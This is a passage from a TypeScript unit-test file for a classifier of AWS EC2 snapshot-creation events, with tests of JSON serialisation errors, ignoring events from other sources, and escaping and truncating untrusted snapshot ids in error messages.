    const cyclic: Json = fixture("aws.ec2/create-snapshot-succeeded");
    cyclic.self = cyclic;
    const bigint = fixture("aws.ec2/create-snapshot-succeeded", { account: 111122223333n });
    // act
    const messages = [invalidMessage(cyclic), invalidMessage(bigint)];
    // assert
    expect(messages).toEqual(["event cannot be serialised as JSON", "event cannot be serialised as JSON"]);
  });

  it("ignores a well-formed event from another source without validating its detail", () => {
    // arrange
    const event = fixture("aws.ec2/create-snapshot-succeeded", { source: "aws.s3" }, { snapshot_id: 42 });
    // act
    const got = classifyEvent(event);
    // assert
    expect(got).toStrictEqual({
      kind: "ignored",
      reason: 'source "aws.s3" is not aws.ec2',
      snapshotId: null,
      region: "us-east-1",
      eventId: CREATE_ID,
    });
  });

  it("quotes untrusted values short and printable", () => {
    // arrange
    const event = fixture(
      "aws.ec2/create-snapshot-succeeded",
      {},
      { snapshot_id: `snap-${"\u2028".repeat(200)}` },
    );
    // act
    const message = invalidMessage(event);
    // assert
    expect(message).toMatch(
      /^detail\.snapshot_id is not an EC2 snapshot ARN or id: "snap-(\\u2028)+\.\.\."$/,
    );
    expect(message.length).toBeLessThan(600);
  });
});
